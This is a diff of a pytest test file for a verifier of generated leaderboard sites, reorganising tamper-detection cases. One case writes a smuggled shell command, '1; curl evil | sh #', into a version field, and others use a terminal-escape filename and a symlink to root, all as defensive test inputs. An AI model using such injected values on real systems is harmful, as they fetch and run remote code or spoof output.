@@ -5,7 +5,6 @@ import json
 import math
 import os
 import re
-import shutil
 from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
@@ -13,6 +12,7 @@ from typing import Any
 from unittest.mock import Mock
 
 import pytest
+from matrix import rest
 from site_examples import TASKS, make
 
 from harness.board.formats import json as json_format
@@ -24,28 +24,10 @@ from harness.site.chain import to_chain
 from harness.site.files import RECORDS, SETTINGS, to_files
 
 
-@pytest.fixture(scope="module")
-def data(tmp_path_factory: pytest.TempPathFactory) -> SiteData:
-    return make(tmp_path_factory.mktemp("reference"))[0]
-
-
-@pytest.fixture(scope="module")
-def made(data: SiteData, tmp_path_factory: pytest.TempPathFactory) -> Path:
-    site = tmp_path_factory.mktemp("made") / "site"
-    write_site(data, site)
-    return site
-
-
-@pytest.fixture
-def site(made: Path, tmp_path: Path) -> Path:
-    return Path(shutil.copytree(made, tmp_path / "site"))
-
-
 def test_a_site_is_as_computed_from_its_records(site: Path) -> None:
     found = verify_site(site)
-    assert found.differences == ()
-    assert found.n_records == 5 * 16
-    assert found.n_files == len([path for path in site.rglob("*") if path.is_file()])
+    n_files = len([path for path in site.rglob("*") if path.is_file()])
+    assert (found.differences, found.n_records, found.n_files) == ((), 5 * 16, n_files)
 
 
 @pytest.mark.rest
@@ -64,8 +46,7 @@ def test_nothing_of_a_hidden_task_is_in_a_site(tmp_path: Path) -> None:
     assert not (tmp_path / "site/data/reference_data/second").exists()
     assert {record.task for record in data.records} == {"toy"}
     page = (tmp_path / "site/submissions/half.html").read_text()
-    assert "EXCEPTION" not in page
-    assert "everyone" not in page
+    assert [text for text in ("EXCEPTION", "everyone") if text in page] == []
     pages = b"".join(path.read_bytes() for path in (tmp_path / "site").rglob("*.html"))
     assert b"interval" not in (tmp_path / "site/index.html").read_bytes().split(b"<tbody>")[0]
     exact = {f"{100 * row.result.score:.4f}".encode() for row in board.rows if row.result.score}
@@ -85,22 +66,24 @@ def a_score(site: Path) -> None:
     (site / "leaderboard.json").write_text(json.dumps(content, indent=1, allow_nan=False) + "\n")
 
 
-CHANGES: list[tuple[Callable[[Path], None], str]] = [
+#: A change of a site, and the beginning of the only line that names it.
+CHANGES = [
     (a_score, r"""leaderboard.json: line \d+: expected ' +"score": 0.0,', found ' +"score": 1.0,'$"""),
-    (
-        lambda site: rewrite(site / "index.html", "winner", "looser"),
-        r"index.html: line \d+: .*winner.*, found .*looser",
-    ),
-    (
-        lambda site: rewrite(site / "reading.html", "</html>", ""),
-        r"reading.html: line \d+: expected '</html>', found ''$",
-    ),
+    (lambda site: rewrite(site / "index.html", "winner", "loser"), r"index.html: line \d+: .*winner.*, found .*loser"),
+    (lambda site: rewrite(site / "reading.html", "</html>", ""),
+     r"reading.html: line \d+: expected '</html>', found ''$"),
     (lambda site: rewrite(site / "values.js", "\n", "\n\n"), r"values.js: line 3: expected no line, found ''$"),
     (lambda site: (site / "submissions/winner.html").unlink(), r"submissions/winner.html: missing"),
     (lambda site: (site / "extra.html").touch(), r"extra.html: not part of the site"),
     (lambda site: rewrite(site / "assets/plots.js", "figure", "figment"), r"assets/plots.js: line \d+: "),
     (lambda site: linked(site, "index.html"), r"index.html: a link$"),
-]
+    rest(lambda site: (site / "link").symlink_to("/"), "link: a link"),
+    rest(lambda site: (site / "empty").mkdir(), "empty: not part of the site"),
+    rest(lambda site: (site / "a\n\x1b[31mVerified").touch(), r"a\?\?\[31mVerified: not part of the site"),
+    rest(lambda site: (site / "leaderboard.json").write_text("[" * 9_000),
+         r"leaderboard.json: line 1: expected '{', found '\[\[\[\["),
+    rest(lambda site: os.truncate(site / "reading.html", 10**9), "reading.html: too large: "),
+]  # fmt: skip
 
 
 @pytest.mark.parametrize(("change", "said"), CHANGES)
@@ -108,6 +91,12 @@ def test_a_changed_page_is_named(site: Path, change: Callable[[Path], None], sai
     change(site)
     (line,) = verify_site(site).differences
     assert re.match(said, line), line
+
+
+@pytest.mark.rest
+def test_a_folder_behind_a_link_is_named(site: Path) -> None:
+    linked(site, "submissions")
+    assert any(line.startswith("submissions: a link") for line in verify_site(site).differences)
 
 
 def test_last_digits_may_differ_as_they_do_between_processors(site: Path) -> None:
@@ -148,48 +137,22 @@ def linked(site: Path, name: str) -> None:
     (site / name).symlink_to(site.parent / "elsewhere")
 
 
-STRANGE: list[tuple[Callable[[Path], None], str]] = [
-    (lambda site: linked(site, "submissions"), "submissions: a link"),
-    (lambda site: (site / "link").symlink_to("/"), "link: a link"),
-    (lambda site: (site / "empty").mkdir(), "empty: not part of the site"),
-    (lambda site: (site / "a\n\x1b[31mVerified").touch(), "a??[31mVerified: not part of the site"),
-    (
-        lambda site: (site / "leaderboard.json").write_text("[" * 9_000),
-        "leaderboard.json: line 1: expected '{', found '[[[[",
-    ),
-    (lambda site: os.truncate(site / "reading.html", 10**9), "reading.html: too large: "),
-]
-
-
-@pytest.mark.rest
-@pytest.mark.parametrize(("change", "said"), STRANGE)
-def test_links_and_strange_files_are_named(site: Path, change: Callable[[Path], None], said: str) -> None:
-    change(site)
-    assert any(line.startswith(said) for line in verify_site(site).differences)
-
-
 #: The digest of the first line also covers settings and reference data.
 FIRST_LINE = r"line 1 .* expected a digest \w+\.\.\. of this line, site\.json and reference_data, found"
 
 BROKEN: list[tuple[Callable[[Path], None], str]] = [
-    (
-        lambda site: rewrite(site / "data/records.jsonl", '"value": 0.4', '"value": 0.5'),
-        r"line \d+ \(\w+, \w+, model_7\): expected a digest",
-    ),
+    (lambda site: rewrite(site / "data/records.jsonl", '"value": 0.4', '"value": 0.5'),
+     r"line \d+ \(\w+, \w+, model_7\): expected a digest"),
     (lambda site: rewrite(site / "data/site.json", '"is_baseline": true', '"is_baseline": false'), FIRST_LINE),
     (lambda site: rewrite(site / "data/reference_data/toy/model_configs.json", "0.4", "0.3"), FIRST_LINE),
-    (
-        lambda site: rewrite(site / "data/site.json", '"pgdl-harness": "', '"pgdl-harness": "9'),
-        "made with another version",
-    ),
-    (
-        lambda site: rewrite(site / "data/site.json", '"pgdl-harness": "', '"pgdl-harness": "1; curl evil | sh #'),
-        "its version of pgdl-harness is malformed$",
-    ),
+    (lambda site: rewrite(site / "data/site.json", '"pgdl-harness": "', '"pgdl-harness": "9'),
+     "made with another version"),
+    (lambda site: rewrite(site / "data/site.json", '"pgdl-harness": "', '"pgdl-harness": "1; curl evil | sh #'),
+     "its version of pgdl-harness is malformed$"),
     (lambda site: (site / "data/site.json").unlink(), "not a site"),
     (lambda site: (site / "data/records.jsonl").write_text("[]\n"), "line 1"),
     (lambda site: rewrite(site / "data/site.json", '"n_models"', '"models"'), "n_models"),
-]
+]  # fmt: skip
 
 
 @pytest.mark.parametrize(("change", "said"), BROKEN)
@@ -220,11 +183,14 @@ def test_a_consistent_site_of_impossible_records_is_refused(
     data: SiteData, tmp_path: Path, change: dict[str, object]
 ) -> None:
     """The digests are right, but the site must be refused, without a crash."""
-    records = [data.records[0].model_copy(update=change), *data.records[1:]]
-    files, _ = to_files(replace(data, records=records))
-    store(tmp_path / "site", files)
     with pytest.raises(UserError):
-        verify_site(tmp_path / "site")
+        verify_site(with_record(change, data, tmp_path / "site"))
+
+
+def with_record(change: dict[str, Any], data: SiteData, directory: Path) -> Path:
+    """Write the data of a site with right digests, after a change of the first record."""
+    records = [data.records[0].model_copy(update=change), *data.records[1:]]
+    return store(directory, to_files(replace(data, records=records))[0])
 
 
 def store(directory: Path, files: dict[str, bytes]) -> Path:
